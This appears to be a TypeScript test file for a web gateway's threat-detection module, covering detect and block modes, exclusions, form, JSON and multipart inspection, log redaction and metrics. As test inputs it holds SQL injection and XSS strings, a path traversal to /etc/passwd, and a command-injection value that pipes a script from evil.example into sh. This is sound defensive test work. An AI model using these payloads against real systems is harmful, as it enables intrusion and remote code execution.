/**
 * Threat detection through a running gateway, over real sockets: the same attacks forwarded and reported in detect
 * mode, refused with the 403 page before the upstream in block mode; benign look-alikes pass; GET requests never
 * enter the body stage; exclusions by rule id, family and parameter; form, JSON and multipart bodies, the
 * inspection cap, secrets kept out of the log, `onError`, and the Prometheus counts. Plus the body-field listing
 * (`inspectableFields`) as a table.
 */
import t from 'tap'
import { startGateway, h1, h2, type Response, type TestGateway } from '../helpers/gateway.js'
import { startUpstream } from '../helpers/upstream.js'
import { inspectableFields, MAX_JSON_NAME_DEPTH, type ThreatProtection } from '../../src/protections/threats.js'
import type { ThreatResult } from '../../src/threats/types.js'

const up = await startUpstream(t)

const FORM = 'application/x-www-form-urlencoded'

function config(threats: string, extra = ''): string {
  return `listen:
  https: { host: 127.0.0.1, port: 0, http2: true }
  http: { enabled: false }
tls:
  certificates:
    - { hosts: [localhost], cert: site.pem, key: site-key.pem }
sites:
  - name: club
    hosts: [localhost]
    upstream: ${up.url}
abuse:
  detections: { enabled: false }
threats:
${threats}
${extra}`
}

const EXCLUSIONS = `  exclusions:
    - { pathPrefix: /search, ruleIds: [sqli-001], comment: the search box takes SQL-looking text }
    - { pathPrefix: /tools, families: [command] }
    - { pathPrefix: /cms, params: [content], comment: the CMS editor posts HTML }
`

const detect = await startGateway(t, config('  mode: detect'))
const block = await startGateway(t, config(`  mode: block\n${EXCLUSIONS}`))
const small = await startGateway(t, config('  mode: block\n  maxBodyInspect: 1kb'))

const SQLI = `/find?q=${encodeURIComponent("1' OR '1'='1")}`
const UNION = `/find?q=${encodeURIComponent('1 UNION SELECT username, password FROM users--')}`
const XSS_FORM = `comment=${encodeURIComponent('<script>alert(1)</script>')}&name=Anne`
const CMD = `snippet=${encodeURIComponent('$(curl http://evil.example/x.sh | sh)')}`
const CMS_HTML = encodeURIComponent('<p>Hello <b>world</b></p><img src="x.png" onerror="alert(1)">')

function threatsOf(gw: TestGateway): ThreatProtection {
  const p = gw.runtime.state.plan.protections.all.find((x) => x.name === 'threats')
  if (!p) throw new Error('no threats protection in the plan')
  return p as ThreatProtection
}

function audits(gw: TestGateway, reqId?: string): Array<Record<string, unknown>> {
  return gw.logs.filter((l) => l['type'] === 'threat' && l['audit'] === true && (reqId === undefined || l['requestId'] === reqId))
}

function seen(path: string): number {
  return up.requests.filter((r) => r.url === path).length
}

function post(gw: TestGateway, path: string, body: string, contentType = FORM): Promise<Response> {
  return h1(gw.port, { method: 'POST', path, body, headers: { 'content-type': contentType } })
}

async function events(gw: TestGateway): Promise<Record<string, number>> {
  const text = await gw.runtime.metrics.registry.getSingleMetricAsString('rampart_protection_events_total')
  const out: Record<string, number> = {}
  for (const m of text.matchAll(/^rampart_protection_events_total\{protection="([^"]+)",outcome="([^"]+)"\} (\d+)$/gm)) {
    out[`${m[1]}/${m[2]}`] = Number(m[3])
  }
  return out
}

t.test('detect mode forwards the attack, logs an audit event and counts it', async (t) => {
  const before = seen(SQLI)
  const res = await h1(detect.port, { path: SQLI })
  t.equal(res.status, 200, 'forwarded')
  t.equal(seen(SQLI), before + 1, 'the upstream saw it')
  const reqId = res.headers['x-request-id'] as string
  const [a] = audits(detect, reqId)
  t.ok(a, 'one audit event for the request')
  t.match(a, {
    level: 'warn', code: 'RAMPART_ERR_THREAT_DETECTED', type: 'threat', action: 'detected', mode: 'detect',
    clientIp: '127.0.0.1', site: 'club', method: 'GET', path: '/find', score: 5, threshold: 5,
    families: ['sqli'], ruleIds: ['sqli-001'], truncated: false, reqId, at: /^\d{4}-\d\d-\d\dT/,
  })
  t.match((a!['matches'] as unknown[])[0], { ruleId: 'sqli-001', family: 'sqli', location: 'query', param: 'q', excerpt: /or/ })

  const form = await post(detect, '/comment', XSS_FORM)
  t.equal(form.status, 200)
  t.equal(JSON.parse(form.body).body, XSS_FORM, 'the upstream got the exact body bytes')
  const [b] = audits(detect, form.headers['x-request-id'] as string)
  t.match(b, { code: 'RAMPART_ERR_THREAT_DETECTED', families: ['xss'], matches: [{ location: 'body', param: 'comment' }] })
  const m = await events(detect)
  t.ok((m['threats/detected'] ?? 0) >= 2, 'rampart_protection_events_total{threats,detected}')
  t.notOk(m['threats/blocked'], 'nothing blocked in detect mode')
})

t.test('block mode answers 403 with the request id; the upstream never sees the request', async (t) => {
  for (const [label, send, path] of [
    ['query over HTTP/1.1', () => h1(block.port, { path: SQLI }), SQLI],
    ['query over HTTP/2', () => h2(block.port, { path: UNION }), UNION],
    ['form body', () => post(block, '/comment', XSS_FORM), '/comment'],
    ['JSON body', () => post(block, '/api/profile', JSON.stringify({ user: { bio: '<script>alert(1)</script>' } }), 'application/json'), '/api/profile'],
    ['User-Agent', () => h1(block.port, { path: '/ua', headers: { 'user-agent': 'sqlmap/1.7#stable' } }), '/ua'],
  ] as const) {
    const before = seen(path)
    const res = await send()
    t.equal(res.status, 403, `${label}: 403`)
    const reqId = res.headers['x-request-id'] as string
    t.ok(reqId, `${label}: request id header`)
    t.match(res.body, reqId, `${label}: the page carries the request id`)
    t.match(res.body, 'blocked for security reasons', `${label}: Rampart's page`)
    t.equal(seen(path), before, `${label}: not proxied`)
    t.match(audits(block, reqId), [{ code: 'RAMPART_ERR_THREAT_BLOCKED', action: 'blocked', level: 'warn' }], `${label}: audit event`)
  }
  const [json] = audits(block).filter((a) => a['path'] === '/api/profile')
  t.match(json, { matches: [{ location: 'body', param: 'user.bio' }] }, 'JSON fields are named by their path')
  t.ok((await events(block))['threats/blocked']! >= 5, 'rampart_protection_events_total{threats,blocked}')
})

t.test('benign inputs pass in block mode', async (t) => {
  const cases: Array<[string, () => Promise<Response>]> = [
    ["O'Brien in a form", () => post(block, '/signup', `name=${encodeURIComponent("Anne O'Brien")}&email=anne%40example.fr`)],
    ['select court 3 in a query', () => h1(block.port, { path: '/book?q=select+court+3&when=tomorrow' })],
    ['French text', () => post(block, '/message', `message=${encodeURIComponent("J'ai réservé le court n°3 pour l'après-midi, à 14h — merci ! C'est l'idéal.")}`)],
    ['quotes and dashes', () => post(block, '/message', `message=${encodeURIComponent("Côte d'Or 21, l'équipe \"Les Aigles\" -- rendez-vous à 18h")}`)],
    ['JSON with apostrophes', () => post(block, '/api/note', JSON.stringify({ note: "It's O'Brien's turn; select a court & pay" }), 'application/json')],
    ['a cookie with a quote', () => h1(block.port, { path: '/', headers: { cookie: "pref=l'ete; sid=abc123" } })],
  ]
  const before = audits(block).length
  for (const [label, send] of cases) t.equal((await send()).status, 200, label)
  t.equal(audits(block).length, before, 'no audit event')
})

t.test('GET requests stay on the fast path: they never enter the body stage', async (t) => {
  const p = threatsOf(detect)
  t.ok(detect.runtime.state.plan.protections.body.includes(p), 'the scan has a body stage')
  const bodies = p.counters.bodies
  const scanned = p.counters.scanned
  for (const path of ['/', '/page?x=1', SQLI, '/a/../etc/passwd']) t.equal((await h1(detect.port, { path })).status, 200, `GET ${path}`)
  t.equal((await h2(detect.port, { path: '/h2?q=1' })).status, 200, 'GET over HTTP/2')
  t.equal((await h1(detect.port, { method: 'HEAD', path: '/head' })).status, 200, 'HEAD')
  t.equal(p.counters.scanned, scanned + 6, 'every GET and HEAD was scanned')
  t.equal(p.counters.bodies, bodies, 'none entered the body stage')
  await post(detect, '/upload', 'binary-ish data', 'application/octet-stream')
  t.equal(p.counters.bodies, bodies, 'a body of another type is not buffered either')
  await post(detect, '/form', 'a=1')
  t.equal(p.counters.bodies, bodies + 1, 'a form body is')
})

t.test('exclusions: by rule id, by family, by parameter (a CMS field holding HTML)', async (t) => {
  const table: Array<[string, () => Promise<Response>, number]> = [
    ['sqli-001 on /search: excluded by rule id', () => h1(block.port, { path: `/search?q=${encodeURIComponent("1' OR '1'='1")}` }), 200],
    ['another SQL rule on /search: still blocked', () => h1(block.port, { path: `/search?q=${encodeURIComponent('1 UNION SELECT username, password FROM users--')}` }), 403],
    ['sqli-001 elsewhere: blocked', () => h1(block.port, { path: `/searching?q=${encodeURIComponent("1' OR '1'='1")}` }), 403],
    ['sqli-001 under /search/…: excluded', () => h1(block.port, { path: `/search/advanced?q=${encodeURIComponent("1' OR '1'='1")}` }), 200],
    ['a command on /tools: excluded by family', () => post(block, '/tools/run', CMD), 200],
    ['XSS on /tools: still blocked', () => post(block, '/tools/run', XSS_FORM), 403],
    ['a command elsewhere: blocked', () => post(block, '/run', CMD), 403],
    ['HTML in content on /cms: excluded by parameter', () => post(block, '/cms/save', `title=Welcome&content=${CMS_HTML}`), 200],
    ['HTML in content[fr] (PHP array field) on /cms: excluded', () => post(block, '/cms/save', `content%5Bfr%5D=${CMS_HTML}`), 200],
    ['HTML in title on /cms: blocked', () => post(block, '/cms/save', `title=${encodeURIComponent('<script>alert(1)</script>')}&content=ok`), 403],
    ['HTML in content elsewhere: blocked', () => post(block, '/blog/save', `content=${CMS_HTML}`), 403],
    ['/CMS spelled otherwise: excluded too (canonical path)', () => post(block, '//CMS/save', `content=${CMS_HTML}`), 200],
  ]
  for (const [label, send, status] of table) t.equal((await send()).status, status, label)
})

t.test('multipart: text parts and file names are inspected, file contents are not', async (t) => {
  const boundary = '----rampart1234'
  const part = (name: string, value: string, filename?: string): string =>
    `--${boundary}\r\nContent-Disposition: form-data; name="${name}"${filename !== undefined ? `; filename="${filename}"` : ''}\r\n` +
    `${filename !== undefined ? 'Content-Type: application/octet-stream\r\n' : ''}\r\n${value}\r\n`
  const type = `multipart/form-data; boundary=${boundary}`
  const send = (parts: string): Promise<Response> => post(block, '/upload', `${parts}--${boundary}--\r\n`, type)
  t.equal((await send(part('title', 'Holiday photos') + part('file', "<script>alert(1)</script> ' OR 1=1 --", 'photo.jpg'))).status, 200,
    'file contents are not inspected')
  t.equal((await send(part('title', '<script>alert(1)</script>'))).status, 403, 'a text part is')
  const res = await send(part('file', 'data', '../../../etc/passwd'))
  t.equal(res.status, 403, 'a file name is')
  t.match(audits(block, res.headers['x-request-id'] as string), [{ matches: [{ family: 'traversal', param: 'file' }] }])
})

t.test('bodies over maxBodyInspect are inspected up to the cap and flagged', async (t) => {
  const p = threatsOf(small)
  const filler = `filler=${'a'.repeat(1500)}`
  const truncated = p.counters.truncated
  t.equal((await post(small, '/form', `${XSS_FORM}&${filler}`)).status, 403, 'an attack within the cap is caught')
  t.equal((await post(small, '/form', `${filler}&${XSS_FORM}`)).status, 200, 'beyond the cap it is not inspected')
  t.equal(p.counters.truncated, truncated + 2, 'both are flagged truncated')
  const res = await post(small, '/api', JSON.stringify({ bio: '<script>alert(1)</script>', filler: 'a'.repeat(1500) }), 'application/json')
  t.equal(res.status, 403, 'a JSON document cut at the cap still yields its first fields')
  t.match(audits(small, res.headers['x-request-id'] as string), [{ truncated: true }])
  const big = await post(small, '/form', `name=Anne&${filler}`)
  t.equal(big.status, 200)
  t.equal(JSON.parse(big.body).body, `name=Anne&${filler}`, 'the whole body still reaches the upstream')
})

t.test('audit events never carry a password, a cookie value or a whole body', async (t) => {
  const password = "' OR 1=1 -- secret-pw-4821"
  const res = await post(detect, '/login', `username=bob&password=${encodeURIComponent(password)}&note=${'x'.repeat(5000)}`)
  t.equal(res.status, 200)
  const [a] = audits(detect, res.headers['x-request-id'] as string)
  t.match(a, { matches: [{ param: 'password', excerpt: '[redacted]' }] })
  const cookie = await h1(detect.port, { path: '/', headers: { cookie: "sid=abc; pref=' OR '1'='1 cookie-val-9931" } })
  const [c] = audits(detect, cookie.headers['x-request-id'] as string)
  t.match(c, { matches: [{ location: 'cookie', param: 'pref', excerpt: '[redacted]' }] })
  const all = JSON.stringify(detect.logs)
  t.notMatch(all, 'secret-pw-4821', 'the password is in no log line')
  t.notMatch(all, 'cookie-val-9931', 'the cookie value is in no log line')
  t.notMatch(all, 'x'.repeat(200), 'no body is logged')
})

t.test('onError: closed refuses in block mode, open forwards; both are logged', async (t) => {
  const closed = await startGateway(t, config('  mode: block\n  onError: closed'))
  const open = await startGateway(t, config('  mode: block\n  onError: open'))
  for (const [gw, status, action] of [[closed, 403, 'refuse'], [open, 200, 'pass']] as const) {
    const p = threatsOf(gw)
    const real = p.engine.scan
    // The engine never throws; it reports a failure in its result, blocked as onError says.
    ;(p.engine as { scan: typeof real }).scan = (): ThreatResult => ({
      score: 0, blocked: gw === closed, matches: [], truncated: false, error: new Error('inspection failed'),
    })
    const res = await h1(gw.port, { path: '/anything' })
    ;(p.engine as { scan: typeof real }).scan = real
    t.equal(res.status, status, `${action}: ${status}`)
    t.match(gw.logs.filter((l) => l['code'] === 'RAMPART_ERR_THREAT_ENGINE'), [{
      level: 'error', failMode: action === 'refuse' ? 'closed' : 'open', action, reqId: res.headers['x-request-id'],
    }])
    t.equal((await events(gw))['threats/error'], 1)
  }
  t.equal((await h1(closed.port, { path: '/anything' })).status, 200, 'a working engine lets it through again')
})

t.test('startup describes the scan and how it fails', async (t) => {
  const line = block.logs.find((l) => l['msg'] === 'protections') as { protections: Record<string, Record<string, unknown>> } | undefined
  t.match(line?.protections['threats'], { mode: 'block', failMode: 'open', threshold: 5, exclusions: 3, alerts: { webhook: 'off' } })
  const off = await startGateway(t, config('  mode: off'))
  t.notOk(off.runtime.state.plan.protections.all.some((p) => p.name === 'threats'), 'mode off compiles to nothing')
})

t.test('inspectableFields lists the text fields of form, JSON and multipart bodies', async (t) => {
  const mp = (parts: string): Buffer => Buffer.from(`--b0\r\n${parts}--b0--\r\n`)
  const table: Array<[string, string | Buffer, string | undefined, Array<[string, string]>]> = [
    ['form, decoded', 'a=1&b=x+y&c=%3Cp%3E', FORM, [['a', '1'], ['b', 'x y'], ['c', '<p>']]],
    ['form, PHP arrays and repeats', 'tag%5B%5D=a&tag%5B%5D=b', `${FORM}; charset=utf-8`, [['tag[]', 'a'], ['tag[]', 'b']]],
    ['form cut mid-value', 'a=1&comment=%3Cscri', FORM, [['a', '1'], ['comment', '<scri']]],
    ['JSON, nested names, arrays keep their name', '{"user":{"name":"Anne","bio":"hi"},"tags":["a","b"],"n":3}', 'application/json',
      [['user.name', 'Anne'], ['user.bio', 'hi'], ['tags', 'a'], ['tags', 'b']]],
    ['JSON escapes decoded', '{"q":"\\u003cscript\\u003e \\"x\\""}', 'application/json', [['q', '<script> "x"']]],
    ['JSON array of objects', '[{"a":"1"},{"a":"2"}]', 'application/vnd.api+json', [['a', '1'], ['a', '2']]],
    ['JSON key that needs a look is listed', '{"profile":{"<img src=x>":"v"}}', 'application/json', [['profile', '<img src=x>'], ['profile.<img src=x>', 'v']]],
    ['JSON cut mid-document', '{"a":"first","b":{"c":"sec', 'application/json', [['a', 'first'], ['b.c', 'sec']]],
    ['JSON string document', '"just text"', 'application/json', [['', 'just text']]],
    ['JSON braces inside strings', '{"a":"{[x]}","b":"y"}', 'application/json', [['a', '{[x]}'], ['b', 'y']]],
    ['multipart text and file parts', mp('Content-Disposition: form-data; name="t"\r\n\r\nhello\r\n--b0\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\nContent-Type: text/plain\r\n\r\nFILE CONTENT\r\n'),
      'multipart/form-data; boundary=b0', [['t', 'hello'], ['f', 'a.txt']]],
    ['multipart cut inside a part', Buffer.from('--b0\r\nContent-Disposition: form-data; name="t"\r\n\r\nhel'), 'multipart/form-data; boundary="b0"', [['t', 'hel']]],
    ['multipart without boundary', 'x', 'multipart/form-data', []],
    ['other types yield nothing', '<xml/>', 'application/xml', []],
    ['no content type', 'a=1', undefined, []],
    ['empty body', '', FORM, []],
  ]
  for (const [label, body, type, want] of table) {
    t.same(inspectableFields(typeof body === 'string' ? Buffer.from(body) : body, type), want, label)
  }
  const deep = `${'{"k":'.repeat(MAX_JSON_NAME_DEPTH + 10)}"v"${'}'.repeat(MAX_JSON_NAME_DEPTH + 10)}`
  const [[name, value]] = inspectableFields(Buffer.from(deep), 'application/json') as [[string, string]]
  t.equal(value, 'v')
  t.equal(name.split('.').length, MAX_JSON_NAME_DEPTH, 'names stop growing past the depth limit')
  const started = performance.now()
  inspectableFields(Buffer.from(`${'{"a":'.repeat(20_000)}${'"x",'.repeat(20_000)}`), 'application/json')
  t.ok(performance.now() - started < 1000, 'deep documents stay linear')
})
